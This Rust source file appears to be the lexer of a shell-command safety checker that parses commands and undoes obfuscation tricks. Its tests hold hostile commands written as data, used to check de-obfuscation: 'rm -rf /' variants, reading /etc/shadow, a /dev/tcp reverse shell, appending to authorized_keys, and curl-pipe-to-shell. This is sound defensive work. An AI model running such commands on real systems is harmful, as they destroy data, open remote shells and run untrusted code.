//! The lexer: shell text → [`Script`], expanding what can be expanded without running anything.

mod expand;

use super::{
    Command, Pipeline, Quoting, Redirect, RedirectOp, Script, Substitution, SubstitutionKind, Vars,
    Word,
};

/// Reserved words that can stand before a command name (`then rm -rf /`).
const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "{", "}", "!", "time",
    "function",
];

/// Builtins whose `NAME=value` arguments set variables.
const DECLARERS: &[&str] = &["export", "declare", "typeset", "local", "readonly"];

/// Most words a brace expansion may produce; beyond that the word is kept as written.
const MAX_BRACE_WORDS: usize = 64;

/// Parses `text`, updating `vars` with the assignments it makes. `depth` counts how deeply this
/// text is nested in other scripts; substitutions are only evaluated below [`MAX_DEPTH`].
pub(crate) fn parse(text: &str, vars: &mut Vars, depth: usize) -> Script {
    let mut lexer = Lexer {
        chars: text.chars().collect(),
        pos: 0,
        vars,
        depth,
        script: Script::default(),
        pipeline: Pipeline::default(),
        cmd: Command::default(),
        word: None,
        pending_redirect: None,
        pending_heredocs: Vec::new(),
        continued: false,
    };
    lexer.run();
    lexer.script
}

/// A word being read.
#[derive(Default)]
struct WordBuf {
    text: String,
    unquoted: bool,
    quoted_parts: usize,
    escaped: bool,
    glob: bool,
    computed: bool,
    brace_open: bool,
    brace_comma: bool,
    brace: bool,
}

impl WordBuf {
    fn finish(self) -> (Word, bool) {
        let quoting = if self.quoted_parts == 0 && !self.escaped {
            Quoting::None
        } else if self.quoted_parts == 1 && !self.unquoted && !self.escaped {
            Quoting::Whole
        } else {
            Quoting::Split
        };
        (
            Word {
                text: self.text,
                quoting,
                glob: self.glob,
                computed: self.computed,
            },
            self.brace,
        )
    }
}

struct Lexer<'v> {
    chars: Vec<char>,
    pos: usize,
    vars: &'v mut Vars,
    depth: usize,
    script: Script,
    pipeline: Pipeline,
    cmd: Command,
    word: Option<WordBuf>,
    pending_redirect: Option<RedirectOp>,
    /// Heredoc delimiters (and whether tabs are stripped) whose bodies start at the next newline.
    pending_heredocs: Vec<(String, bool)>,
    /// The last operator (`|`, `&&`, `||`) lets the command continue on the next line.
    continued: bool,
}

impl Lexer<'_> {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, offset: usize) -> Option<char> {
        self.chars.get(self.pos + offset).copied()
    }

    fn buf(&mut self) -> &mut WordBuf {
        self.continued = false;
        self.word.get_or_insert_with(WordBuf::default)
    }

    fn run(&mut self) {
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' => {
                    self.pos += 1;
                    self.end_word();
                }
                '\n' => {
                    self.pos += 1;
                    if !(self.continued && self.word.is_none() && self.cmd == Command::default()) {
                        self.end_pipeline();
                    }
                    self.read_heredoc_bodies();
                }
                ';' => {
                    self.pos += 1;
                    self.end_pipeline();
                }
                '&' => match self.peek_at(1) {
                    Some('&') => {
                        self.pos += 2;
                        self.end_pipeline();
                        self.continued = true;
                    }
                    Some('>') => {
                        self.end_word();
                        self.pos += 2;
                        let op = if self.peek() == Some('>') {
                            self.pos += 1;
                            RedirectOp::Append
                        } else {
                            RedirectOp::Write
                        };
                        self.pending_redirect = Some(op);
                    }
                    _ => {
                        self.pos += 1;
                        self.end_pipeline();
                    }
                },
                '|' => {
                    if self.peek_at(1) == Some('|') {
                        self.pos += 2;
                        self.end_pipeline();
                    } else {
                        self.pos += 1;
                        if self.peek() == Some('&') {
                            self.pos += 1;
                        }
                        self.end_command();
                    }
                    self.continued = true;
                }
                '(' | ')' => {
                    self.pos += 1;
                    self.end_command();
                }
                '<' | '>' => self.redirect_or_process(c),
                '#' if self.word.is_none() => {
                    while self.peek().is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                }
                _ => self.word_part(),
            }
        }
        self.end_pipeline();
    }

    /// Reads one piece of a word: a character, an escape, a quoted string or an expansion.
    fn word_part(&mut self) {
        let Some(c) = self.peek() else { return };
        match c {
            '\\' => match self.peek_at(1) {
                Some('\n') => self.pos += 2,
                Some(next) => {
                    self.pos += 2;
                    let buf = self.buf();
                    buf.escaped = true;
                    buf.text.push(next);
                }
                None => self.pos += 1,
            },
            '\'' => {
                self.pos += 1;
                let start = self.pos;
                while self.peek().is_some_and(|c| c != '\'') {
                    self.pos += 1;
                }
                let text: String = self.chars[start..self.pos].iter().collect();
                self.pos += 1;
                let buf = self.buf();
                buf.quoted_parts += 1;
                buf.text.push_str(&text);
            }
            '"' => {
                self.pos += 1;
                self.double_quoted();
            }
            '$' => self.dollar(false),
            '`' => self.backtick(false),
            _ => {
                self.pos += 1;
                self.push_plain(c);
            }
        }
    }

    fn push_plain(&mut self, c: char) {
        let buf = self.buf();
        buf.unquoted = true;
        match c {
            '*' | '?' | '[' => buf.glob = true,
            '{' => buf.brace_open = true,
            ',' if buf.brace_open => buf.brace_comma = true,
            '}' if buf.brace_open && buf.brace_comma => buf.brace = true,
            _ => {}
        }
        buf.text.push(c);
    }

    fn double_quoted(&mut self) {
        self.buf().quoted_parts += 1;
        while let Some(c) = self.peek() {
            match c {
                '"' => {
                    self.pos += 1;
                    return;
                }
                '\\' => {
                    let next = self.peek_at(1);
                    self.pos += 2;
                    match next {
                        Some('\n') => {}
                        Some(n @ ('$' | '`' | '"' | '\\')) => self.buf().text.push(n),
                        Some(n) => {
                            let buf = self.buf();
                            buf.text.push('\\');
                            buf.text.push(n);
                        }
                        None => self.buf().text.push('\\'),
                    }
                }
                '$' => self.dollar(true),
                '`' => self.backtick(true),
                _ => {
                    self.pos += 1;
                    self.buf().text.push(c);
                }
            }
        }
    }

    /// Appends expanded text; unquoted, it is split into words at whitespace as the shell does.
    fn push_text(&mut self, text: &str, quoted: bool) {
        if quoted {
            self.buf().text.push_str(text);
            return;
        }
        for c in text.chars() {
            if c.is_whitespace() {
                self.end_word();
            } else {
                self.push_plain(c);
            }
        }
    }

    fn redirect_or_process(&mut self, c: char) {
        if self.peek_at(1) == Some('(') {
            self.pos += 2;
            let source = self.read_balanced('(', ')');
            let kind = if c == '<' {
                SubstitutionKind::ProcessIn
            } else {
                SubstitutionKind::ProcessOut
            };
            self.cmd.substitutions.push(Substitution { kind, source });
            let buf = self.buf();
            buf.text.push_str("/dev/fd/63");
            buf.computed = true;
            return;
        }
        // A word of digits right before the operator is the descriptor (`2>`), not an argument.
        let is_fd = self.word.as_ref().is_some_and(|w| {
            !w.text.is_empty() && w.quoted_parts == 0 && w.text.chars().all(|c| c.is_ascii_digit())
        });
        if is_fd {
            self.word = None;
        } else {
            self.end_word();
        }
        self.pos += 1;
        let next = self.peek();
        let op = match (c, next) {
            ('<', Some('<')) => {
                self.pos += 1;
                match self.peek() {
                    Some('<') => {
                        self.pos += 1;
                        RedirectOp::HereString
                    }
                    Some('-') => {
                        self.pos += 1;
                        self.pending_heredocs.push((String::new(), true));
                        RedirectOp::Heredoc
                    }
                    _ => {
                        self.pending_heredocs.push((String::new(), false));
                        RedirectOp::Heredoc
                    }
                }
            }
            ('<', Some('>')) => {
                self.pos += 1;
                RedirectOp::ReadWrite
            }
            ('<', Some('&')) | ('>', Some('&')) => {
                self.pos += 1;
                RedirectOp::Duplicate
            }
            ('<', _) => RedirectOp::Read,
            ('>', Some('>')) => {
                self.pos += 1;
                RedirectOp::Append
            }
            ('>', Some('|')) => {
                self.pos += 1;
                RedirectOp::Write
            }
            _ => RedirectOp::Write,
        };
        self.pending_redirect = Some(op);
    }

    fn end_word(&mut self) {
        let Some(buf) = self.word.take() else { return };
        let had_unquoted_equals = buf.unquoted;
        let (word, brace) = buf.finish();
        if let Some(op) = self.pending_redirect.take() {
            self.add_redirect(op, word);
            return;
        }
        if self.cmd.words.is_empty()
            && had_unquoted_equals
            && let Some((name, value)) = assignment(&word.text)
        {
            self.cmd
                .assignments
                .push((name.to_owned(), value.to_owned()));
            return;
        }
        if brace && word.quoting == Quoting::None {
            let expanded = expand_braces(&word.text);
            if expanded.len() > 1 {
                for text in expanded {
                    self.cmd.words.push(Word {
                        text,
                        ..word.clone()
                    });
                }
                return;
            }
        }
        self.cmd.words.push(word);
    }

    fn add_redirect(&mut self, op: RedirectOp, word: Word) {
        let redirect = match op {
            RedirectOp::Heredoc => {
                // The delimiter was queued when the operator was read; name it now.
                if let Some(slot) = self
                    .pending_heredocs
                    .iter_mut()
                    .rev()
                    .find(|(d, _)| d.is_empty())
                {
                    slot.0 = word.text.clone();
                }
                Redirect {
                    op,
                    target: word.text,
                    body: None,
                }
            }
            RedirectOp::HereString => Redirect {
                op,
                body: Some(word.text.clone()),
                target: word.text,
            },
            RedirectOp::Duplicate
                if !(word.text == "-" || word.text.chars().all(|c| c.is_ascii_digit())) =>
            {
                // `>& file` sends both streams to the file.
                Redirect {
                    op: RedirectOp::Write,
                    target: word.text,
                    body: None,
                }
            }
            _ => Redirect {
                op,
                target: word.text,
                body: None,
            },
        };
        self.cmd.redirects.push(redirect);
    }

    fn end_command(&mut self) {
        self.end_word();
        self.pending_redirect = None;
        let mut cmd = std::mem::take(&mut self.cmd);
        while cmd
            .words
            .first()
            .is_some_and(|w| w.quoting == Quoting::None && KEYWORDS.contains(&w.text.as_str()))
        {
            cmd.words.remove(0);
        }
        if cmd.words.is_empty() {
            for (name, value) in &cmd.assignments {
                self.vars.insert(name.clone(), value.clone());
            }
        } else if let Some(name) = cmd.words.first().map(|w| w.text.clone()) {
            if DECLARERS.contains(&name.as_str()) {
                for word in &cmd.words[1..] {
                    if let Some((n, v)) = assignment(&word.text) {
                        self.vars.insert(n.to_owned(), v.to_owned());
                        cmd.assignments.push((n.to_owned(), v.to_owned()));
                    }
                }
            } else if name == "unset" {
                for word in &cmd.words[1..] {
                    self.vars.remove(&word.text);
                }
            }
        }
        if cmd != Command::default() {
            self.pipeline.commands.push(cmd);
        }
    }

    fn end_pipeline(&mut self) {
        self.end_command();
        self.continued = false;
        let pipeline = std::mem::take(&mut self.pipeline);
        if !pipeline.commands.is_empty() {
            self.script.pipelines.push(pipeline);
        }
    }

    fn read_heredoc_bodies(&mut self) {
        for (delimiter, strip_tabs) in std::mem::take(&mut self.pending_heredocs) {
            let mut body = String::new();
            while self.pos < self.chars.len() {
                let start = self.pos;
                while self.peek().is_some_and(|c| c != '\n') {
                    self.pos += 1;
                }
                let line: String = self.chars[start..self.pos].iter().collect();
                self.pos += 1;
                let compared = if strip_tabs {
                    line.trim_start_matches('\t')
                } else {
                    line.as_str()
                };
                if compared == delimiter {
                    break;
                }
                body.push_str(&line);
                body.push('\n');
            }
            let slot = self
                .script
                .pipelines
                .iter_mut()
                .chain(std::iter::once(&mut self.pipeline))
                .flat_map(|p| p.commands.iter_mut())
                .flat_map(|c| c.redirects.iter_mut())
                .find(|r| r.op == RedirectOp::Heredoc && r.body.is_none());
            if let Some(redirect) = slot {
                redirect.body = Some(body);
            }
        }
    }
}

/// `NAME=value` (or `NAME+=value`) split into name and value.
fn assignment(text: &str) -> Option<(&str, &str)> {
    let (name, value) = text.split_once('=')?;
    let name = name.strip_suffix('+').unwrap_or(name);
    let mut chars = name.chars();
    let first = chars.next()?;
    ((first == '_' || first.is_ascii_alphabetic())
        && chars.all(|c| c == '_' || c.is_ascii_alphanumeric()))
    .then_some((name, value))
}

/// Bash brace expansion (`{a,b}c` → `ac bc`); a word that would expand into more than
/// [`MAX_BRACE_WORDS`] words is kept as written, and the work stops as soon as that is known.
fn expand_braces(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    if expand_into(text, &mut out) {
        out
    } else {
        vec![text.to_owned()]
    }
}

/// Appends the expansions of `text` to `out`; false once there would be too many.
fn expand_into(text: &str, out: &mut Vec<String>) -> bool {
    let chars: Vec<char> = text.chars().collect();
    let Some(open) = chars.iter().position(|c| *c == '{') else {
        out.push(text.to_owned());
        return out.len() <= MAX_BRACE_WORDS;
    };
    let mut depth = 0usize;
    let mut commas = Vec::new();
    let mut close = None;
    for (i, c) in chars.iter().enumerate().skip(open) {
        match c {
            '{' => depth += 1,
            '}' => {
                depth -= 1;
                if depth == 0 {
                    close = Some(i);
                    break;
                }
            }
            ',' if depth == 1 => commas.push(i),
            _ => {}
        }
    }
    let Some(close) = close.filter(|_| !commas.is_empty()) else {
        out.push(text.to_owned());
        return out.len() <= MAX_BRACE_WORDS;
    };
    let prefix: String = chars[..open].iter().collect();
    let suffix: String = chars[close + 1..].iter().collect();
    let mut bounds = vec![open];
    bounds.extend(&commas);
    bounds.push(close);
    for pair in bounds.windows(2) {
        let alternative: String = chars[pair[0] + 1..pair[1]].iter().collect();
        if !expand_into(&format!("{prefix}{alternative}{suffix}"), out) {
            return false;
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str) -> Vec<Vec<String>> {
        let script = parse(text, &mut Vars::new(), 0);
        script
            .commands()
            .filter(|c| !c.words.is_empty())
            .map(|c| c.words.iter().map(|w| w.text.clone()).collect())
            .collect()
    }

    #[test]
    fn quotes_escapes_and_separators() {
        assert_eq!(words("r''m -rf /"), [["rm", "-rf", "/"]]);
        assert_eq!(words(r#"\rm "-rf" '/'"#), [["rm", "-rf", "/"]]);
        assert_eq!(
            words("ls -la; echo 'a b' && cat x | wc -l"),
            vec![
                vec!["ls", "-la"],
                vec!["echo", "a b"],
                vec!["cat", "x"],
                vec!["wc", "-l"]
            ]
        );
        let script = parse("curl -s x | sh", &mut Vars::new(), 0);
        assert_eq!(script.pipelines.len(), 1);
        assert_eq!(script.pipelines[0].commands.len(), 2);
        assert_eq!(words("echo a # rm -rf /"), [["echo", "a"]]);
        assert_eq!(words("a=1 b=2"), Vec::<Vec<String>>::new());
    }

    #[test]
    fn expansions_that_hide_words_are_undone() {
        assert_eq!(words("rm${IFS}-rf${IFS}/"), [["rm", "-rf", "/"]]);
        assert_eq!(words("{rm,-rf,/}"), [["rm", "-rf", "/"]]);
        assert_eq!(words("a=rm; $a -rf /"), [["rm", "-rf", "/"]]);
        assert_eq!(words("c='rm -rf /'; $c"), [["rm", "-rf", "/"]]);
        assert_eq!(words("$'\\x72\\x6d' -rf /"), [["rm", "-rf", "/"]]);
        assert_eq!(words("$(echo rm) -rf /"), [["rm", "-rf", "/"]]);
        assert_eq!(words("ca$@t /etc/shadow"), [["cat", "/etc/shadow"]]);
        assert_eq!(words("rm -rf \"$HOME\""), [["rm", "-rf", "~"]]);
        assert_eq!(words("echo ${X:-rm}"), [["echo", "rm"]]);
        assert_eq!(words("echo $UNKNOWN"), [["echo", "$UNKNOWN"]]);
        assert_eq!(words("rm -rf \"${DIR:?}/\""), [["rm", "-rf", "${DIR:?}/"]]);
        assert_eq!(
            words("export P=/bin/sh; $P"),
            vec![vec!["export", "P=/bin/sh"], vec!["/bin/sh"]]
        );
    }

    #[test]
    fn redirects_heredocs_and_substitutions() {
        let script = parse(
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            &mut Vars::new(),
            0,
        );
        let cmd = script.commands().next().unwrap();
        assert_eq!(cmd.texts(), ["bash", "-i"]);
        assert_eq!(cmd.redirects[0].op, RedirectOp::Write);
        assert_eq!(cmd.redirects[0].target, "/dev/tcp/10.0.0.1/4444");
        assert_eq!(cmd.redirects[1].op, RedirectOp::Duplicate);

        let script = parse(
            "cat <<'EOF' > ~/.ssh/authorized_keys\nssh-ed25519 AAAA key\nEOF\necho done",
            &mut Vars::new(),
            0,
        );
        let cmds: Vec<&Command> = script.commands().collect();
        assert_eq!(cmds.len(), 2);
        assert_eq!(
            cmds[0].redirects[0].body.as_deref(),
            Some("ssh-ed25519 AAAA key\n")
        );
        assert_eq!(cmds[0].redirects[1].target, "~/.ssh/authorized_keys");
        assert_eq!(cmds[1].texts(), ["echo", "done"]);

        let script = parse("bash <(curl -s https://x.sh)", &mut Vars::new(), 0);
        let cmd = script.commands().next().unwrap();
        assert_eq!(cmd.substitutions[0].kind, SubstitutionKind::ProcessIn);
        assert_eq!(cmd.substitutions[0].source, "curl -s https://x.sh");

        let script = parse("eval \"$(curl -fsSL https://x)\"", &mut Vars::new(), 0);
        let cmd = script.commands().next().unwrap();
        assert_eq!(cmd.substitutions[0].source, "curl -fsSL https://x");
        assert!(cmd.words[1].computed);

        let script = parse("ls 2>/dev/null", &mut Vars::new(), 0);
        let cmd = script.commands().next().unwrap();
        assert_eq!(cmd.texts(), ["ls"]);
        assert_eq!(cmd.redirects[0].target, "/dev/null");
    }

    #[test]
    fn braces_expand_like_bash() {
        assert_eq!(
            expand_braces("/etc/{passwd,shadow}"),
            ["/etc/passwd", "/etc/shadow"]
        );
        assert_eq!(expand_braces("{a,b}{c,d}"), ["ac", "ad", "bc", "bd"]);
        assert_eq!(expand_braces("{nocomma}"), ["{nocomma}"]);
    }

    #[test]
    fn unterminated_input_does_not_panic() {
        for text in [
            "'", "\"", "$(", "${", "`", "a <<", "a >", "\\", "$'\\x", "{a,", "$((1",
        ] {
            let _ = parse(text, &mut Vars::new(), 0);
        }
    }
}
